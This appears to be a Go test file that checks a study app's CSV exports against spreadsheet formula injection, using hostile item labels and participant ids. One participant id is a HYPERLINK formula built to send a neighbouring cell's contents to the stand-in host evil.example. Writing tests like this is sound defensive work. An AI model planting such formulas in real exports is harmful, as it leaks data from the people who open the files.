package web_test

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"

	"github.com/closer-lab/closer/internal/csvsafe"
	"github.com/closer-lab/closer/internal/demo"
)

// spreadsheetWouldRun is the test's own reading of OWASP's rule, written
// apart from csvsafe so that a bug there cannot hide here: a cell runs as
// a formula when it starts with a tab or a carriage return, or when its
// first character after white space is a formula sign, unless the whole
// cell is a number.
func spreadsheetWouldRun(cell string) bool {
	if strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r") {
		return true
	}
	if _, err := strconv.ParseFloat(cell, 64); err == nil {
		return false
	}
	rest := []rune(strings.TrimLeftFunc(cell, unicode.IsSpace))
	return len(rest) > 0 && strings.ContainsRune("=+-@＝＋－＠", rest[0])
}

// checkCells fails for every cell of a CSV a spreadsheet would run.
func checkCells(t *testing.T, name string, recs [][]string) {
	t.Helper()
	for i, rec := range recs {
		for j, cell := range rec {
			if spreadsheetWouldRun(cell) {
				t.Errorf("%s line %d column %d: %q would run as a formula", name, i+1, j+1, cell)
			}
		}
	}
}

// column returns the index of a header's column.
func column(t *testing.T, name string, header []string, col string) int {
	t.Helper()
	i := slices.Index(header, col)
	if i < 0 {
		t.Fatalf("%s has no column %q: %v", name, col, header)
	}
	return i
}

// Items named by hostile file names and participants with hostile external
// ids, through the real router: no cell of triplets.csv (admin and API),
// embedding.csv, kernel-pca.csv or kernel.csv would run in a spreadsheet,
// the changed cells read back to the original text with csvsafe.Unescape,
// and numbers stay numbers.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	a, jobs := newJobsApp(t, true)
	admin := a.admin()
	const perParticipant = 30
	st := a.study("inj", 0, perParticipant, "open")
	labels := []string{"=1+1", "+SUM(1,2)", "@SUM(1)", "-2+3", "＝HYPERLINK(1)", " =3", "-0.5", "disk"}
	imgs := demo.Items()
	var files [][2]string
	for i, l := range labels {
		files = append(files, [2]string{l + ".png", string(imgs[i].Data)})
	}
	if res := upload(t, a, admin, "inj", files); res.StatusCode != 200 || !strings.Contains(res.body, fmt.Sprintf("%d added", len(labels))) {
		t.Fatalf("upload: %d %.500s", res.StatusCode, res.body)
	}
	items, err := a.store.ListItems(context.Background(), st.ID)
	if err != nil {
		t.Fatal(err)
	}
	// labelOf[i] is item i's label (items are indexed in the uploads'
	// natural name order).
	labelOf := make([]string, len(items))
	for _, it := range items {
		labelOf[it.Index] = it.Label
	}
	if got, want := slices.Sorted(slices.Values(labelOf)), slices.Sorted(slices.Values(labels)); !slices.Equal(got, want) {
		t.Fatalf("items are labelled %q, want %q (the test needs the hostile labels stored as they are)", got, want)
	}

	// Two participants through the API, one through the browser form.
	externals := []string{`=HYPERLINK("http://evil.example/?leak="&A2,"Click")`, "-2+3"}
	for _, ext := range externals {
		body := fmt.Sprintf(`{"external_id": %q}`, ext)
		j := a.join("inj", body)
		for {
			var n nextResp
			if res := a.api("GET", "/api/v1/studies/inj/next", j.Token, "", &n); res.StatusCode != 200 {
				t.Fatalf("next: %d %s", res.StatusCode, res.body)
			}
			if n.Done {
				break
			}
			ans := fmt.Sprintf(`{"question_id": %q, "closer": %d}`, n.QuestionID, n.Left.Index)
			if res := a.api("POST", "/api/v1/answers", j.Token, ans, nil); res.StatusCode != http.StatusCreated {
				t.Fatalf("answer: %d %s", res.StatusCode, res.body)
			}
		}
	}
	browserExt := "@SUM(1)"
	externals = append(externals, browserExt)
	c := a.client()
	if res := a.do(c, "POST", "/s/inj/start", url.Values{"external_id": {browserExt}}, nil); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("start: %d %s", res.StatusCode, res.body)
	}
	for range 3 {
		res := a.do(c, "GET", "/s/inj/q", nil, nil)
		qid, opts := questionIDRE.FindStringSubmatch(res.body), closerRE.FindAllStringSubmatch(res.body, -1)
		if res.StatusCode != 200 || qid == nil || len(opts) != 2 {
			t.Fatalf("question page: %d %.300s", res.StatusCode, res.body)
		}
		if res := a.do(c, "POST", "/s/inj/answer", url.Values{"question_id": {qid[1]}, "closer": {opts[0][1]}}, nil); res.StatusCode != http.StatusSeeOther {
			t.Fatalf("answer: %d %s", res.StatusCode, res.body)
		}
	}
	answers := 2*perParticipant + 3

	if r := a.do(admin, "POST", "/admin/studies/inj/dashboard/recompute", url.Values{}, nil); r.StatusCode != http.StatusSeeOther {
		t.Fatalf("recompute: %d %s", r.StatusCode, r.body)
	}
	waitDone(t, a.store, jobs, st.ID, 1)

	get := func(name, path string) [][]string {
		t.Helper()
		res := a.do(admin, "GET", path, nil, nil)
		if res.StatusCode != 200 {
			t.Fatalf("%s: %d %s", name, res.StatusCode, res.body)
		}
		recs := readCSV(t, res.body)
		checkCells(t, name, recs)
		return recs
	}
	// wantLabels checks a label column against the items' labels, after
	// undoing the quote: the export changed nothing else.
	wantLabels := func(name string, recs [][]string, itemCol, labelCol int) {
		t.Helper()
		for _, r := range recs[1:] {
			i, err := strconv.Atoi(r[itemCol])
			if err != nil || i < 0 || i >= len(labelOf) {
				t.Fatalf("%s: item %q", name, r[itemCol])
			}
			if got := csvsafe.Unescape(r[labelCol]); got != labelOf[i] {
				t.Errorf("%s: label cell %q reads back as %q, want %q", name, r[labelCol], got, labelOf[i])
			}
			if labelOf[i] == "-0.5" && r[labelCol] != "-0.5" {
				t.Errorf("%s: the numeric label -0.5 was changed to %q", name, r[labelCol])
			}
		}
	}
	numbers := func(name string, recs [][]string, from int) {
		t.Helper()
		for _, r := range recs[1:] {
			for _, cell := range r[from:] {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("%s: %q is not a number", name, cell)
				}
			}
		}
	}

	// triplets.csv, by session and by API token.
	trip := get("triplets.csv", "/admin/studies/inj/triplets.csv?include_excluded=1")
	if len(trip) != answers+1 {
		t.Fatalf("triplets.csv: %d rows, want %d", len(trip)-1, answers)
	}
	ext := column(t, "triplets.csv", trip[0], "external_id")
	seen := map[string]bool{}
	for _, r := range trip[1:] {
		seen[csvsafe.Unescape(r[ext])] = true
	}
	for _, e := range externals {
		if !seen[e] {
			t.Errorf("triplets.csv: external id %q not found (after undoing the quote) in %v", e, seen)
		}
	}
	for _, l := range []string{"anchor", "closer", "farther"} {
		wantLabels("triplets.csv", trip, column(t, "triplets.csv", trip[0], l), column(t, "triplets.csv", trip[0], l+"_label"))
	}
	adminID, err := a.accounts.FirstAdmin(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	token, _, err := a.accounts.CreateAPIToken(context.Background(), adminID.ID, "script")
	if err != nil {
		t.Fatal(err)
	}
	res := a.api("GET", "/api/v1/studies/inj/triplets.csv", token, "", nil)
	if res.StatusCode != 200 {
		t.Fatalf("API export: %d %s", res.StatusCode, res.body)
	}
	checkCells(t, "API triplets.csv", readCSV(t, res.body))

	emb := get("embedding.csv", "/admin/studies/inj/embedding.csv")
	wantLabels("embedding.csv", emb, 0, 1)
	numbers("embedding.csv", emb, 2)
	pca := get("kernel-pca.csv", "/admin/studies/inj/kernel-pca.csv")
	wantLabels("kernel-pca.csv", pca, 0, 1)
	numbers("kernel-pca.csv", pca, 2)
	ker := get("kernel.csv", "/admin/studies/inj/kernel.csv")
	wantLabels("kernel.csv", ker, 0, 1)
	numbers("kernel.csv", ker, 2)
	for _, recs := range [][][]string{emb, pca, ker} {
		if len(recs) != len(labels)+1 {
			t.Fatalf("%d rows, want %d items", len(recs)-1, len(labels))
		}
	}
}
